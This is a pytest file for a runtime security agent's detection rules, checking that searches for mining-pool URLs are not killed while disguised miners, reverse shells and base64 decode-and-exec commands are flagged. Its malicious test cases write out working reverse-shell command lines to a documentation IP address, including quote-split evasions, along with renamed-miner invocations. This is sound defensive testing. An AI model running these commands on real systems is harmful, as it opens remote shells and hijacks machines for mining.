"""The shipped rules on issue 13's command lines: text search and wrapper chains that name a
mining pool are never killed, and the miners, reverse shells and decoders that slipped
through (upper-case and schemeless pools, config-file miners, /dev/tcp behind quotes or an
fd, base64 decode-and-exec) get a finding with the action and severity the rule says."""

from __future__ import annotations

from typing import Any

import pytest

from agent.codec import event_from_json
from agent.engine import loader
from agent.engine.ruleset import RuleSet
from agent.model import COMM_LEN, Event

WS = "ws-red"
HOME = "/home/nwtenant"


@pytest.fixture(scope="module")
def shipped() -> RuleSet:
    return loader.load([loader.BUNDLED])


def exec_event(exe: str, cmdline: list[str], comm: str | None = None, uid: int = 1001,
               ws: str | None = WS, ancestors: list[dict[str, Any]] | None = None,
               kind: str = "exec", conn: dict[str, Any] | None = None) -> Event:
    process: dict[str, Any] = {"exe": exe, "cmdline": cmdline, "uid": uid,
                               "ancestors": ancestors or [{"exe": "/usr/bin/bash",
                                                           "cmdline": ["bash"]}]}
    if comm is not None:
        process["comm"] = comm
    obj: dict[str, Any] = {"kind": kind, "process": process}
    if ws:
        obj["workspace"] = {"id": ws}
    if conn:
        obj["connection"] = conn
    return event_from_json(obj)


URL = "stratum+tcp://pool.example.com:3333"

# (id, event): a program searching or wrapping a search for a pool URL must not be killed
BENIGN = [
    ("git grep", exec_event("/usr/bin/git", ["git", "grep", "-n", URL])),
    ("git log -S url", exec_event("/usr/bin/git", ["git", "log", "-S", URL])),
    ("git log -S joined", exec_event("/usr/bin/git", ["git", "log", "-S" + URL])),
    ("git log -S scheme", exec_event("/usr/bin/git", ["git", "log", "-S", "stratum+tcp"])),
    ("timeout grep", exec_event("/usr/bin/timeout",
                                ["timeout", "5", "grep", "-r", "stratum+tcp://", "/tmp/d"])),
    ("timeout grep url", exec_event("/usr/bin/timeout",
                                    ["timeout", "5", "grep", "-r", URL, "/var/log"])),
    ("root timeout grep over logs", exec_event("/usr/bin/timeout",
                                               ["timeout", "5", "grep", "-rh", URL, "/var/log"],
                                               uid=0, ws=None)),
    ("grep under timeout", exec_event("/usr/bin/grep", ["grep", "-r", URL, "/var/log"],
                                      ancestors=[{"exe": "/usr/bin/timeout",
                                                  "cmdline": ["timeout", "5", "grep", "-r",
                                                              URL, "/var/log"]}])),
    ("find -exec grep", exec_event("/usr/bin/find",
                                   ["find", ".", "-name", "*.log", "-exec", "grep", "-l",
                                    URL, "{}", "+"])),
    ("xargs grep", exec_event("/usr/bin/xargs", ["xargs", "-0", "grep", "-l", URL])),
    ("xargs grep upper case", exec_event("/usr/bin/xargs", ["xargs", "grep", "-il",
                                                            "STRATUM+TCP://pool.example:3333"])),
    ("env grep", exec_event("/usr/bin/env", ["env", "LC_ALL=C", "grep", "-F", URL, "log"])),
    ("nice stdbuf grep", exec_event("/usr/bin/nice", ["nice", "-n", "19", "stdbuf", "-oL",
                                                      "grep", URL, "log"])),
    ("stdbuf grep", exec_event("/usr/bin/stdbuf", ["stdbuf", "-oL", "grep", URL, "log"])),
    ("sudo grep", exec_event("/usr/bin/sudo", ["sudo", "grep", "-r", URL, "/var/log"])),
    ("rg", exec_event("/usr/bin/rg", ["rg", "-i", URL])),
    ("rg in the tenant's home, scheme only",
     exec_event(f"{HOME}/.cargo/bin/rg", ["rg", "stratum+tcp://", "/var/log"])),
    ("ag", exec_event("/usr/bin/ag", ["ag", URL])),
    ("less", exec_event("/usr/bin/less", ["less", "-p" + URL, "miner.log"])),
    ("vim", exec_event("/usr/bin/vim.basic", ["vim", "-c", "/" + URL, "miner.log"], comm="vim")),
    ("egrep script", exec_event("/usr/bin/dash", ["/bin/sh", "/usr/bin/egrep", URL, "log"],
                                comm="egrep")),
    ("sh -c grep", exec_event("/usr/bin/dash", ["sh", "-c", f"grep -c {URL} log"], comm="sh")),
    ("echo", exec_event("/usr/bin/echo", ["echo", "-o", URL])),
    ("curl", exec_event("/usr/bin/curl", ["curl", "--url", "api.example.com:3333"])),
    ("ps -o", exec_event("/usr/bin/ps", ["ps", "-o", "pid:3333,comm"])),
    ("long name, 15-byte comm", exec_event(f"{HOME}/cpuminer-avx512-benchmark-report",
                                           ["./cpuminer-avx512-benchmark-report", "--csv"])),
    ("port check", exec_event("/usr/bin/bash", ["bash", "-c",
                                                "cat < /dev/null > /dev/tcp/db/5432"])),
    ("interactive port check", exec_event("/usr/bin/bash",
                                          ["bash", "-ic", "echo > /dev/tcp/db/5432 && echo up"])),
    ("http over /dev/tcp", exec_event("/usr/bin/bash", [
        "bash", "-c", "exec 3<>/dev/tcp/example.com/80; echo 'GET /' >&3; cat <&3"])),
    ("dev server on 3333 in the cluster", exec_event(
        "/ide/node/bin/node", ["node", "server.js", "--config=dev.json"], kind="connect",
        conn={"src": "10.0.3.7", "sport": 40000, "dst": "10.0.9.4", "dport": 3333})),
]

# (id, event, rule, action, severity)
MALICIOUS = [
    ("renamed miner, upper-case scheme",
     exec_event(f"{HOME}/kworker", ["kworker", "-o", "STRATUM+TCP://127.0.0.1:3333"]),
     "crypto-miner-args", "kill", "critical"),
    ("renamed miner, mixed-case joined",
     exec_event(f"{HOME}/kworker", ["kworker", "--url=Stratum+Ssl://pool.example.com:443"]),
     "crypto-miner-args", "kill", "critical"),
    ("miner copied to ~/bin/grep",
     exec_event(f"{HOME}/bin/grep", ["grep", "-o", URL]), "crypto-miner-args", "kill",
     "critical"),
    ("miner started as exec -a grep",
     exec_event(f"{HOME}/xmr", ["grep", "-o", URL], comm="grep"), "crypto-miner-args", "kill",
     "critical"),
    ("miner through a grep symlink to python3",
     exec_event("/usr/bin/python3.11", ["grep", "m.py", "-o", URL], comm="grep"),
     "crypto-miner-args", "kill", "critical"),
    ("schemeless pool on a pool port",
     exec_event(f"{HOME}/kworker", ["kworker", "-o", "10.0.0.2:3333", "-u", "w"]),
     "crypto-miner-pool-address", "kill", "critical"),
    ("schemeless pool on 443",
     exec_event(f"{HOME}/kworker", ["kworker", "-o", "pool.example.com:443"]),
     "crypto-miner-pool-address-any-port", "report", "high"),
    ("pool from --config, seen at connect",
     exec_event(f"{HOME}/.cache/kworker", ["kworker", "--config=pool.json"], kind="connect",
                conn={"src": "10.0.3.7", "sport": 40000, "dst": "198.51.100.20",
                      "dport": 3333}),
     "crypto-miner-config-pool", "kill", "high"),
    ("15-byte miner name",
     exec_event(f"{HOME}/cpuminer-avx512", ["./cpuminer-avx512"]),
     "crypto-miner-exec", "kill", "critical"),
    ("python exec base64",
     exec_event("/usr/bin/python3.11",
                ["python3", "-c", "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))"],
                comm="python3"),
     "interpreter-exec-base64", "report", "high"),
    ("fd 5 then bash -i on it",
     exec_event("/usr/bin/bash", ["bash", "-c",
                                  "exec 5<>/dev/tcp/203.0.113.7/4242; bash -i <&5 >&5 2>&5"]),
     "reverse-shell-dev-tcp", "kill", "critical"),
    ("bash --norc -i",
     exec_event("/usr/bin/bash", ["bash", "-c", "bash --norc -i >& /dev/tcp/203.0.113.7/4242"]),
     "reverse-shell-dev-tcp", "kill", "critical"),
    ("double-quote split",
     exec_event("/usr/bin/bash", ["bash", "-c",
                                  'bash -i >& /dev/tc""p/203.0.113.7/4242 0>&1']),
     "reverse-shell-dev-tcp", "kill", "critical"),
    ("single-quote split",
     exec_event("/usr/bin/bash", ["bash", "-c",
                                  "bash -i >& /dev/t'c'p/203.0.113.7/4242 0>&1"]),
     "reverse-shell-dev-tcp", "kill", "critical"),
    ("backslash split",
     exec_event("/usr/bin/bash", ["bash", "-c",
                                  "bash -i >& /dev/t\\cp/203.0.113.7/4242 0>&1"]),
     "reverse-shell-dev-tcp", "kill", "critical"),
    ("base64 -d | bash",
     exec_event("/usr/bin/dash", ["sh", "-c", "echo YmFzaCAtaQo= | base64 -d | bash"],
                comm="sh"),
     "decode-exec-pipe-to-shell", "report", "high"),
]


@pytest.mark.parametrize("event", [e for _, e in BENIGN], ids=[i for i, _ in BENIGN])
def test_text_search_and_wrappers_are_not_killed(shipped, event):
    kills = [m.rule.id for m in shipped.evaluate(event) if m.rule.action != "report"]
    assert kills == []


@pytest.mark.parametrize("event,rule,action,severity", [m[1:] for m in MALICIOUS],
                         ids=[m[0] for m in MALICIOUS])
def test_issue_13_gaps_get_a_finding(shipped, event, rule, action, severity):
    found = {m.rule.id: m.rule for m in shipped.evaluate(event)}
    assert rule in found, sorted(found)
    assert (found[rule].action, found[rule].severity) == (action, severity)


def test_kernel_name_map_holds_no_name_the_kernel_could_have_cut(shipped):
    """The kernel compares the 15-byte comm: a name of 15 bytes or more in its map would
    kill every longer name that starts with it (`cpuminer-avx512-benchmark-report`)."""
    names = {n for r in shipped.rules if r.kernel is not None for n in r.kernel.names}
    assert "xmrig" in names
    assert not [n for n in names if len(n.encode()) >= COMM_LEN]
